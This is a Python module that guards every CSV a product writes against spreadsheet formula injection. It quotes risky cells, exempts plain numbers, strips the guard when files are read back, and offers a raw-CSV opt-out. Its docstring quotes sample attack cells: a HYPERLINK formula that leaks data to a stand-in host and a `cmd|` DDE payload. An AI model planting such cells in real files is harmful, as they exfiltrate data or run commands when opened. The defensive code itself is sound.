"""Every CSV the product writes goes through here, so no cell opens as a formula in a spreadsheet.

Cells come from input CSVs, file names, S3 keys, OCR readings and a model's answers: all hostile. A cell such
as `=HYPERLINK("http://evil.example/?leak="&A1,"x")` or `+cmd|' /C calc'!A0` runs when a spreadsheet opens
the file (CSV injection). OWASP's rule, applied to every cell including the header:

- a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading single quote, so the
  spreadsheet shows it as text;
- every cell is wrapped in double quotes (embedded quotes doubled), so a `,` or `;` inside a cell cannot start
  a new cell with a formula in it (a spreadsheet whose list separator is `;` splits unquoted cells there).

Numbers: a cell that is a plain decimal number (`-5`, `+3`, `-1.2e3`, `-.5`) is left as it is. A number
cannot call a function or reach another cell, spreadsheets read it as the number it is, and our own tables hold
negative numbers (a difference of shares, a confidence bound) that machine readers must get as numbers. Only
the whole-cell pattern `[+-]?(digits[.digits]|.digits)([eE][+-]?digits)?` is exempt: `-1+2`, `-5 ` or
`-2+3+cmd|' /C calc'!A0` are not numbers and are guarded. (defusedcsv does the first rule but not tab and CR,
rewrites `|` inside cells, exempts only `-?[0-9,.]+`, and cannot be undone on read; hence this module.)

Reversible: a cell that already starts with a quote followed by one of those characters or by another quote
gets one more quote, so `unguard_cell(guard_cell(x)) == x` for every string. The product strips the guard
where it reads its own files back (a categorised CSV in `compare-import` and `categories extract`, category
lists); input CSVs of a download are kept exactly as given.

Machine consumers that want raw cells turn the guard off: the `csv_formula_guard` setting
(`WORKBENCH_CSV_FORMULA_GUARD=false`), or `--raw-csv` on the CLI's export commands (stored in the job, so a
resumed job keeps the choice). Unguarded files are written as before: minimal quoting, cells untouched.
"""

from __future__ import annotations

import contextlib
import csv
import io
import os
import re
import threading
from collections.abc import Iterable, Iterator, Mapping
from pathlib import Path
from typing import IO, Any, Protocol

FORMULA_START = frozenset("=+-@\t\r")
_QUOTE = "'"
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
RAW_CSV_PARAM = "raw_csv"  # a job parameter: True writes this job's CSVs without the guard


class SettingsLike(Protocol):
    csv_formula_guard: bool


def guard_enabled(settings: SettingsLike, params: Mapping[str, Any] | None = None) -> bool:
    """The guard is on unless the settings turn it off or the job was made with `--raw-csv`."""
    if params is not None and params.get(RAW_CSV_PARAM):
        return False
    return bool(settings.csv_formula_guard)


def guard_cell(value: Any) -> Any:
    """The cell as a spreadsheet will show it as text; numbers (int, float) and plain numeric strings as they are."""
    if not isinstance(value, str) or not value:
        return value
    first = value[0]
    if first in FORMULA_START:
        return value if _PLAIN_NUMBER.fullmatch(value) else _QUOTE + value
    if first == _QUOTE and len(value) > 1 and (value[1] in FORMULA_START or value[1] == _QUOTE):
        return _QUOTE + value  # keeps the guard reversible for cells that already look guarded
    return value


def unguard_cell(value: str) -> str:
    """The cell as it was before `guard_cell` (a no-op on cells the guard never touches)."""
    if len(value) > 1 and value[0] == _QUOTE and (value[1] in FORMULA_START or value[1] == _QUOTE):
        return value[1:]
    return value


def guard_row(row: Iterable[Any]) -> list[Any]:
    return [guard_cell(v) for v in row]


class _Writer(Protocol):
    def writerow(self, row: Iterable[Any]) -> Any: ...


class GuardedWriter:
    """`csv.writer` with every cell guarded (or, with `guard=False`, the plain writer's behaviour)."""

    def __init__(self, fh: IO[str] | Any, guard: bool = True) -> None:
        self.guard = guard
        self._writer: _Writer = csv.writer(fh, quoting=csv.QUOTE_ALL if guard else csv.QUOTE_MINIMAL)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow(guard_row(row) if self.guard else list(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(fh: IO[str] | Any, guard: bool = True) -> GuardedWriter:
    return GuardedWriter(fh, guard)


@contextlib.contextmanager
def open_for_write(path: Path, guard: bool = True) -> Iterator[GuardedWriter]:
    """A CSV file written under a temporary name and renamed when complete: a killed process or a full disk
    never leaves half a table under the real name. The temporary name carries the pid (see
    `services.core.workspace.remove_stale_temp_files`)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    tmp = path.with_name(f".{path.name}.{os.getpid()}.{threading.get_ident()}.tmp")
    try:
        with open(tmp, "w", newline="", encoding="utf-8") as fh:
            yield GuardedWriter(fh, guard)
        os.replace(tmp, path)
    finally:
        tmp.unlink(missing_ok=True)


def to_bytes(header: list[str], rows: Iterable[Iterable[Any]], guard: bool = True) -> bytes:
    """A small table as CSV bytes (a page's download button)."""
    buf = io.StringIO()
    out = GuardedWriter(buf, guard)
    out.writerow(header)
    out.writerows(rows)
    return buf.getvalue().encode("utf-8")


class _UnguardingReader:
    """`csv.reader` that strips the guard from every cell."""

    def __init__(self, fh: Iterable[str]) -> None:
        self._reader = csv.reader(fh)

    def __iter__(self) -> _UnguardingReader:
        return self

    def __next__(self) -> list[str]:
        return [unguard_cell(c) for c in next(self._reader)]

    @property
    def line_num(self) -> int:
        return self._reader.line_num


def reader(fh: Iterable[str]) -> Iterator[list[str]]:
    """Rows of a CSV the product wrote, cells as they were before the guard."""
    return _UnguardingReader(fh)


class DictRows:
    """`csv.DictReader` over a CSV the product wrote, header and cells unguarded (same semantics: blank lines
    skipped, missing cells None, extra cells listed under the key None)."""

    def __init__(self, fh: Iterable[str]) -> None:
        self._rows = _UnguardingReader(fh)
        self.fieldnames: list[str] | None = next(self._rows, None)

    @property
    def line_num(self) -> int:
        return self._rows.line_num

    def __iter__(self) -> Iterator[dict[Any, Any]]:
        names = self.fieldnames or []
        for row in self._rows:
            if not row:
                continue
            record: dict[Any, Any] = dict(zip(names, row, strict=False))
            if len(row) > len(names):
                record[None] = row[len(names) :]
            for name in names[len(row) :]:
                record[name] = None
            yield record


def dict_reader(fh: Iterable[str]) -> DictRows:
    return DictRows(fh)
